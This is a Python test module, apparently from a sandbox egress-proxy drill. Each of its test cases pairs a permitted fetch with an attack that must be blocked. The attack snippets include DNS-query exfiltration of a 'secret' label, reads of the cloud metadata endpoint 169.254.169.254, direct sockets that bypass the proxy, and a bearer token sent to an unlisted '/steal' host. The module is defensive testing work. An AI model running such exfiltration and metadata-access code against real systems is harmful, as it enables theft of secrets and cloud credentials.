"""The network attempts: the sandbox's only way out is the egress proxy.

They run with a proxy policy (``allow = ["allowed.drill.test"]``) whose
names resolve through an injected hosts map to a loopback server that the
drill starts, so no real DNS or outside host is involved.  Every twin
fetches the allowed host through the proxy; every attack must fail AND
leave a ``deny`` record with the expected rule.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from typing import Any

from ..egress import HostsResolver, NetworkOptions
from ..egress.testing import LoopbackServer
from ._attempts import Attempt

ALLOWED = "allowed.drill.test"
UNLISTED = "unlisted.drill.test"

_FETCH = (
    "import sys, urllib.request, urllib.error\n"
    "def fetch(url):\n"
    "    try:\n"
    "        r = urllib.request.urlopen(url, timeout=10)\n"
    "        print('OK', r.status, r.read().decode()[:40])\n"
    "    except urllib.error.HTTPError as e:\n"
    "        print('ERR', e.code)\n"
    "    except OSError as e:\n"
    "        print('ERR', type(e).__name__, getattr(e, 'errno', ''))\n"
)
_SOCK = (
    "import errno, socket\n"
    "def sock(f):\n"
    "    try:\n"
    "        f(); print('OK')\n"
    "    except OSError as e:\n"
    "        print('ERR', errno.errorcode.get(e.errno, e.errno))\n"
)


def _py(body: str) -> list[str]:
    return ["python3", "-c", _FETCH + _SOCK + body]


#: The supervisor-side variable the placeholder attempt's credential comes from.
CRED_ENV = "GLASSROOM_DRILL_PROXY_TOKEN"


def setup_net() -> tuple[dict[str, Any], Callable[[], None]]:
    server = LoopbackServer()
    secret = "glsr-drill-real-" + os.urandom(6).hex()
    os.environ[CRED_ENV] = secret
    net = {
        "secret": secret,
        "server": server,
        "port": server.port,
        "options": NetworkOptions(
            resolver=HostsResolver({ALLOWED: "127.0.0.1", UNLISTED: "127.0.0.1"})
        ),
    }
    def cleanup() -> None:
        os.environ.pop(CRED_ENV, None)
        server.close()

    return net, cleanup


def network_attempts(net: dict[str, Any]) -> list[Attempt]:
    port = net["port"]
    server: LoopbackServer = net["server"]
    policy = {"network": {"allow": [ALLOWED]}}
    twin = _py(f"fetch('http://{ALLOWED}:{port}/twin')")

    def fetched(res: Any) -> bool:
        return bool(res.exit_code == 0 and "OK 200 ok GET /twin" in res.stdout)

    def unauthorized(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
        hits = [h for h in server.hits if UNLISTED in h[2]]
        return fetched(t), "ERR 403" in a.stdout and not hits, a.stdout.strip()

    def said(word: str) -> Callable[[Any, Any, Any], tuple[bool, bool, str]]:
        def judge(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
            words = a.stdout.split()
            blocked = (
                a.exit_code == 0
                # "A/B": either outcome.  gVisor's netstack answers EHOSTUNREACH
                # where Linux's empty netns says ENETUNREACH: no route, both.
                and all(any(alt in a.stdout for alt in w.split("/")) for w in word.split("|"))
                and "OK" not in words
                and "RESOLVED" not in words
            )
            return fetched(t), blocked, " ".join(words)

        return judge

    def placeholder_kept(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
        sent = {h[1]: {k.lower(): v for k, v in s.items()}
                for h, s in zip(server.hits, server.seen_headers, strict=True)}  # fmt: skip
        twin_auth = sent.get("/twin", {}).get("authorization", "")
        stolen = sent.get("/steal", {}).get("authorization", "")
        secret = net["secret"]
        return (fetched(t) and twin_auth == f"Bearer {secret}",
                bool(stolen) and secret not in stolen and "glsr-" in stolen,
                f"unlisted host got {stolen[:24]}…")  # fmt: skip

    opts = net["options"]
    return [
        Attempt(
            "egress-unauthorized",
            "reach a host that is not in network.allow, through the proxy",
            twin,
            _py(f"fetch('http://{UNLISTED}:{port}/attack')"),
            unauthorized,
            rule="network.allow",
            policy=policy,
            network=opts,
        ),
        Attempt(
            "dns-exfiltration",
            "leak data in a DNS query: UDP port 53, and the libc resolver",
            twin,
            _py(
                "q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'"
                " + b'\\x06secret\\x04exfil\\x04test\\x00\\x00\\x01\\x00\\x01'\n"
                "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "sock(lambda: s.sendto(q, ('192.0.2.53', 53)))\n"
                "try:\n"
                "    socket.getaddrinfo('secret.exfil.test', 80); print('RESOLVED')\n"
                "except socket.gaierror as e:\n"
                "    print('NORESOLVE')\n"
            ),
            said("ENETUNREACH/EHOSTUNREACH|NORESOLVE"),
            rule="network.direct",
            policy=policy,
            network=opts,
        ),
        Attempt(
            "metadata-endpoint",
            "read the cloud metadata endpoint 169.254.169.254 (proxy and direct)",
            twin,
            _py(
                "fetch('http://169.254.169.254/latest/meta-data/')\n"
                "sock(lambda: socket.create_connection(('169.254.169.254', 80), timeout=5))\n"
            ),
            said("ERR 403|ENETUNREACH/EHOSTUNREACH"),
            rule="network.internal",
            policy=policy,
            network=opts,
        ),
        Attempt(
            "direct-socket",
            "open a TCP socket straight to an address, bypassing the proxy",
            twin,
            _py(f"sock(lambda: socket.create_connection(('192.0.2.10', {port}), timeout=5))"),
            said("ENETUNREACH/EHOSTUNREACH"),
            rule="network.direct",
            policy=policy,
            network=opts,
        ),
        Attempt(
            "placeholder-exfiltration",
            "send a proxy credential's placeholder to a host it is not for",
            # Twin: the listed host gets the real value, added by the proxy.
            _py(f"fetch('http://{ALLOWED}:{port}/twin')"),
            _py(
                "import os\n"
                f"r = urllib.request.Request('http://{UNLISTED}:{port}/steal')\n"
                "r.add_header('Authorization', 'Bearer ' + os.environ['GLASSROOM_SECRET_TOKEN'])\n"
                "print('OK', urllib.request.urlopen(r, timeout=10).status)\n"
            ),
            placeholder_kept,
            rule="credentials[0].hosts",
            policy={
                "network": {"allow": [ALLOWED, UNLISTED]},
                "credentials": [{"name": "token", "source": f"env:{CRED_ENV}", "inject": "proxy",
                                 "hosts": [ALLOWED]}],
            },  # fmt: skip
            network=opts,
        ),
    ]
